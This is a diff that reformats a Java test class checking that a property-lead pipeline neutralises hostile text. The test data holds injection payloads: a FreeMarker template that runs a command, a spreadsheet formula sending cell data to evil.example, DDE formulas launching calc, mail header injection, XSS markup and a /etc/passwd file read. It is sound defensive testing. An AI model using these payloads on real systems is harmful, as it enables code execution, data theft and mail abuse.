@@ -47,10 +47,12 @@ class HostileTextTest {
     private static final Map<String, String> PAYLOADS = new LinkedHashMap<>();
 
     static {
-        PAYLOADS.put("simple language", "${env:HOME} ${body} ${sys:user.home} $simple{body} ${bean:runLock?method=release}");
+        PAYLOADS.put(
+                "simple language", "${env:HOME} ${body} ${sys:user.home} $simple{body} ${bean:runLock?method=release}");
         PAYLOADS.put("placeholder", "{{sys:user.home}} {{mail.to}} {{?x}}");
         PAYLOADS.put("resource", "resource:file:/etc/passwd");
-        PAYLOADS.put("freemarker", "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")} #{7*7} [=7*7]");
+        PAYLOADS.put(
+                "freemarker", "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")} #{7*7} [=7*7]");
         PAYLOADS.put("formula =", "=IMPORTXML(\"http://evil.example/\"&A1,\"//a\")");
         PAYLOADS.put("formula +", "+1+cmd|' /C calc'!A0");
         PAYLOADS.put("formula -", "-2+3+cmd|' /C calc'!A0");
@@ -58,7 +60,9 @@ class HostileTextTest {
         PAYLOADS.put("formula after a tab", "\t=1+1");
         PAYLOADS.put("formula after a line end", "\r=1+1");
         PAYLOADS.put("header", "x\r\nBcc: victim@example.com\r\nSubject: owned\r\n\r\n.\r\nsecond body");
-        PAYLOADS.put("markup", "</td></table><script>alert(1)</script><img src=x onerror=alert(1)>\"'><a href=\"javascript:x\">");
+        PAYLOADS.put(
+                "markup",
+                "</td></table><script>alert(1)</script><img src=x onerror=alert(1)>\"'><a href=\"javascript:x\">");
         PAYLOADS.put("direction", "\u202egnp.exe\u202c \u2066turned\u2069 \u200bhidden\u00ad");
         PAYLOADS.put("terminal", "\u001b[31mred\u001b]0;owned\u0007 \u009b2J \u0008\u0008");
         PAYLOADS.put("nul", "before\u0000after");
@@ -69,6 +73,7 @@ class HostileTextTest {
 
     /** Characters that steer something: none of them may arrive anywhere but in the record of a model's answer. */
     private static final Pattern STEERING = Pattern.compile("[\\p{Cc}\\p{Cf}\\u2028\\u2029&&[^\\n]]");
+
     private static final ObjectMapper JSON = new ObjectMapper();
     private static final int HUGE = 5_000_000;
 
@@ -84,7 +89,9 @@ class HostileTextTest {
 
     /** The payload as one visible line: what may be shown of it. */
     private static String visible(String payload) {
-        return payload.replaceAll("\\p{Cf}", "").replaceAll("[\\p{Cc}\\s\\u2028]+", " ").strip();
+        return payload.replaceAll("\\p{Cf}", "")
+                .replaceAll("[\\p{Cc}\\s\\u2028]+", " ")
+                .strip();
     }
 
     private static List<SearchService.Result> homes() {
@@ -92,7 +99,8 @@ class HostileTextTest {
         PAYLOADS.values().forEach(payload -> {
             SearchService.Result plain = SearchService.home(homes.size() + 1, "teardown");
             // In the text as its beginning, where a cell would take it for a formula, and again inside.
-            homes.add(new SearchService.Result(plain.title() + " " + payload,
+            homes.add(new SearchService.Result(
+                    plain.title() + " " + payload,
                     plain.link() + "?a=" + payload.replaceAll("[\\p{Cc}\\p{Cf}\\p{Zl}]", ""),
                     payload + " | " + plain.snippet() + " " + payload));
         });
@@ -118,7 +126,8 @@ class HostileTextTest {
     private List<List<JsonNode>> sheet() throws Exception {
         List<List<JsonNode>> rows = new ArrayList<>();
         JsonNode document = JSON.readTree(morning.sheetFile().toFile());
-        for (JsonNode tab : document.path("spreadsheets").path(Sandbox.SPREADSHEET).path("tabs")) {
+        for (JsonNode tab :
+                document.path("spreadsheets").path(Sandbox.SPREADSHEET).path("tabs")) {
             if (tab.path("title").asText().equals("Leads")) {
                 tab.path("rows").forEach(row -> {
                     List<JsonNode> cells = new ArrayList<>();
@@ -136,20 +145,27 @@ class HostileTextTest {
         assertThat(mail.getHeader("Subject")).hasSize(1);
         assertThat(mail.getSubject()).doesNotContain("owned", "\n", "\r");
         String html = part(mail, "text/html");
-        assertThat(html).doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<img")
-                .doesNotContainIgnoringCase("href=\"javascript:").doesNotContain("uid=", System.getProperty("user.home"));
+        assertThat(html)
+                .doesNotContainIgnoringCase("<script")
+                .doesNotContainIgnoringCase("<img")
+                .doesNotContainIgnoringCase("href=\"javascript:")
+                .doesNotContain("uid=", System.getProperty("user.home"));
         assertThat(html.split("</table>", -1)).as("tables").hasSizeLessThanOrEqualTo(2);
         assertThat(STEERING.matcher(html.replace("\r", "")).find()).isFalse();
-        assertThat(STEERING.matcher(part(mail, "text/plain").replace("\r", "")).find()).isFalse();
+        assertThat(STEERING.matcher(part(mail, "text/plain").replace("\r", "")).find())
+                .isFalse();
         assertThat(part(mail, "text/plain")).doesNotContain("\nBcc:", "uid=", System.getProperty("user.home"));
     }
 
     private void assertLog() throws Exception {
         try (var files = Files.list(morning.place.folder())) {
-            for (Path log : files.filter(file -> file.getFileName().toString().startsWith("leads.log")).toList()) {
+            for (Path log : files.filter(file -> file.getFileName().toString().startsWith("leads.log"))
+                    .toList()) {
                 String text = Files.readString(log);
-                assertThat(text.lines()).noneMatch(line -> line.startsWith("2026-11-22T09:00:00.000Z ERROR Forged"))
-                        .noneMatch(line -> STEERING.matcher(line.replace("\t", "")).find());
+                assertThat(text.lines())
+                        .noneMatch(line -> line.startsWith("2026-11-22T09:00:00.000Z ERROR Forged"))
+                        .noneMatch(
+                                line -> STEERING.matcher(line.replace("\t", "")).find());
             }
         }
     }
@@ -170,18 +186,25 @@ class HostileTextTest {
 
         assertThat(result.code()).as(result.err()).isZero();
         assertThat(STEERING.matcher(result.all()).find()).as("what is printed").isFalse();
-        assertThat(morning.place.rows("select * from property_scans")).hasSize(payloads.size()).allSatisfy(row -> {
-            int home = Integer.parseInt(row.get("address").toString().split(" ")[0]);
-            String seen = visible(payloads.get(home - 1));
-            assertThat(row.get("snippet").toString()).startsWith(seen).endsWith(seen);
-            assertThat(row.get("address")).isEqualTo(home + " Example St, Newton, MA 02458");
-            assertThat(row.get("classification")).isEqualTo(home % 2 == 1 ? "unclear" : Models.YES);
-            assertThat(row.get("link").toString()).matches("https://www\\.zillow\\.com/homedetails/[!-~&&[^\"'<>${}]]*");
-            assertThat(row.values().stream().filter(String.class::isInstance).map(String.class::cast))
-                    .noneMatch(value -> STEERING.matcher(value).find());
-        });
-        assertThat(morning.place.rows("select distinct classification from property_scans")).hasSize(2);
-        assertThat(morning.place.rows("select title from sightings")).hasSize(payloads.size())
+        assertThat(morning.place.rows("select * from property_scans"))
+                .hasSize(payloads.size())
+                .allSatisfy(row -> {
+                    int home = Integer.parseInt(row.get("address").toString().split(" ")[0]);
+                    String seen = visible(payloads.get(home - 1));
+                    assertThat(row.get("snippet").toString()).startsWith(seen).endsWith(seen);
+                    assertThat(row.get("address")).isEqualTo(home + " Example St, Newton, MA 02458");
+                    assertThat(row.get("classification")).isEqualTo(home % 2 == 1 ? "unclear" : Models.YES);
+                    assertThat(row.get("link").toString())
+                            .matches("https://www\\.zillow\\.com/homedetails/[!-~&&[^\"'<>${}]]*");
+                    assertThat(row.values().stream()
+                                    .filter(String.class::isInstance)
+                                    .map(String.class::cast))
+                            .noneMatch(value -> STEERING.matcher(value).find());
+                });
+        assertThat(morning.place.rows("select distinct classification from property_scans"))
+                .hasSize(2);
+        assertThat(morning.place.rows("select title from sightings"))
+                .hasSize(payloads.size())
                 .noneMatch(row -> STEERING.matcher(row.get("title").toString()).find());
 
         List<List<JsonNode>> rows = sheet();
@@ -190,10 +213,13 @@ class HostileTextTest {
             assertThat(row.get(7).isTextual()).isTrue();
         });
         Set<String> snippets = rows.stream().map(row -> row.get(7).asText()).collect(Collectors.toSet());
-        assertThat(payloads).allSatisfy(payload ->
-                assertThat(snippets).as(payload).anyMatch(text -> text.startsWith(visible(payload))));
-        assertThat(morning.google().requests().entries("sheets").stream().filter(request -> !request.method().equals("GET"))
-                .filter(request -> request.path().contains(":append"))).isNotEmpty()
+        assertThat(payloads)
+                .allSatisfy(payload ->
+                        assertThat(snippets).as(payload).anyMatch(text -> text.startsWith(visible(payload))));
+        assertThat(morning.google().requests().entries("sheets").stream()
+                        .filter(request -> !request.method().equals("GET"))
+                        .filter(request -> request.path().contains(":append")))
+                .isNotEmpty()
                 .allSatisfy(request -> assertThat(request.query()).contains("valueInputOption=RAW"));
 
         String csv = Files.readString(morning.place.data().resolve("leads.csv"));
@@ -206,14 +232,19 @@ class HostileTextTest {
 
         assertThat(morning.mails()).hasSize(1);
         assertMail(morning.mails().get(0));
-        assertThat(part(morning.mails().get(0), "text/plain")).contains("${env:HOME}", "{{mail.to}}", "resource:file:/etc/passwd");
+        assertThat(part(morning.mails().get(0), "text/plain"))
+                .contains("${env:HOME}", "{{mail.to}}", "resource:file:/etc/passwd");
         assertThat(bytes(morning.mails().get(0))).doesNotContain("root:x:");
         assertLog();
     }
 
     @Test
     void whatAFailureSaysArrivesAsText() throws Exception {
-        morning = new Morning(folder).withSheet().withMail().finds(SearchService.home(1, "teardown")).set("serpapi.retries", "0")
+        morning = new Morning(folder)
+                .withSheet()
+                .withMail()
+                .finds(SearchService.home(1, "teardown"))
+                .set("serpapi.retries", "0")
                 .set("openai.retries", "0");
         System.setProperty("leads.log.level", "DEBUG");
         int run = 0;
@@ -228,9 +259,12 @@ class HostileTextTest {
                 // As a library may log it, with an exception.
                 LoggerFactory.getLogger("x").warn(payload, new IllegalStateException(payload));
             }
-            assertThat(morning.place.rows("select error from runs")).hasSize(run).allSatisfy(row ->
-                    assertThat(row.get("error").toString()).endsWith(" said")
-                            .satisfies(error -> assertThat(STEERING.matcher(error).find()).isFalse()));
+            assertThat(morning.place.rows("select error from runs"))
+                    .hasSize(run)
+                    .allSatisfy(row -> assertThat(row.get("error").toString())
+                            .endsWith(" said")
+                            .satisfies(error ->
+                                    assertThat(STEERING.matcher(error).find()).isFalse()));
             assertThat(morning.place.rows("select 1 from property_scans")).isEmpty();
         }
         assertLog();
@@ -247,7 +281,8 @@ class HostileTextTest {
         List<SearchService.Result> homes = new ArrayList<>();
         SearchService.Result plain = SearchService.home(1, "teardown");
         homes.add(new SearchService.Result(plain.title() + huge, plain.link(), plain.snippet() + huge));
-        homes.add(new SearchService.Result(SearchService.home(2, "").title(), SearchService.home(2, "").link() + huge, "teardown"));
+        homes.add(new SearchService.Result(
+                SearchService.home(2, "").title(), SearchService.home(2, "").link() + huge, "teardown"));
         homes.add(SearchService.home(3, "teardown"));
         morning = new Morning(folder).withMail().finds(homes.toArray(SearchService.Result[]::new));
         Predicate<String> third = question -> question.contains("3 Example St");
@@ -255,13 +290,17 @@ class HostileTextTest {
 
         try (LeadsProcess process = LeadsProcess.start(morning.place, Map.of(), List.of("-Xmx192m"), "daily")) {
             await().atMost(Duration.ofSeconds(90)).until(() -> !process.alive());
-            assertThat(process.output()).contains("1 development opportunity, 1 unclear", "1 unsafe link")
+            assertThat(process.output())
+                    .contains("1 development opportunity, 1 unclear", "1 unsafe link")
                     .doesNotContain("OutOfMemory");
             assertThat(process.output().length()).isLessThan(10_000);
         }
-        assertThat(morning.place.rows("select * from property_scans")).hasSize(2).allSatisfy(row ->
-                assertThat(row.values()).noneMatch(value -> value instanceof String text && text.length() > 2000));
-        assertThat(morning.place.rows("select answer from answers where length(answer) > 1000")).isEmpty();
+        assertThat(morning.place.rows("select * from property_scans"))
+                .hasSize(2)
+                .allSatisfy(row -> assertThat(row.values())
+                        .noneMatch(value -> value instanceof String text && text.length() > 2000));
+        assertThat(morning.place.rows("select answer from answers where length(answer) > 1000"))
+                .isEmpty();
         assertThat(morning.mails()).hasSize(1);
         assertThat(bytes(morning.mails().get(0)).length()).isLessThan(100_000);
         assertThat(Files.size(morning.place.data().resolve("leads.csv"))).isLessThan(20_000);
